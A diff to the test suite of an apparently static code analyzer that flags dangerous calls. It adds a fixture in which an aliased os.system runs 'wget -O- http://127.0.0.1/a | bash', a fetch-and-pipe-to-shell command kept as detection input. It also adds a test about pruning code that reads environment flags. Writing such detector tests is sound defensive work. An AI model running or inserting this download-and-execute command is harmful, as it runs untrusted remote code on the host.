@@ -209,6 +209,15 @@ def go():
 
 go()
 """,
+    # The alias copied to a local before the call: its value is used, not only called.
+    "alias copied to a local": """
+import os
+launch = os.system
+
+def go():
+    x = launch
+    x("wget -O- http://127.0.0.1/a | bash")
+""",
     # A module-level list filled by an inert function, run by kept code.
     "mutated global": """
 import os
@@ -312,6 +321,18 @@ def test_flows_through_inert_looking_code_are_kept(name: str) -> None:
 def test_the_constant_from_an_inert_method_still_decides_the_category() -> None:
     findings = analyze_code(FLOWS_THROUGH_INERT_CODE["attribute set elsewhere"]).to_findings()
     assert any(f.category is Category.DESTRUCTIVE for f in findings)
+
+
+def test_a_flag_from_the_environment_only_tested_keeps_nothing() -> None:
+    code = (
+        "import os\n_FAST = os.environ.get('FAST', '1') == '1'\n\n\n"
+        "def f(x):\n    if _FAST and x:\n        return 1\n    return 2\n\n\n"
+        "def g():\n    return _FAST\n"
+    )
+    pruned = _pruned(code)
+    assert "def f" not in pruned  # only tested
+    assert "def g" in pruned  # its value flows out
+    _same(code)
 
 
 def test_module_level_statements_are_never_hollowed() -> None:
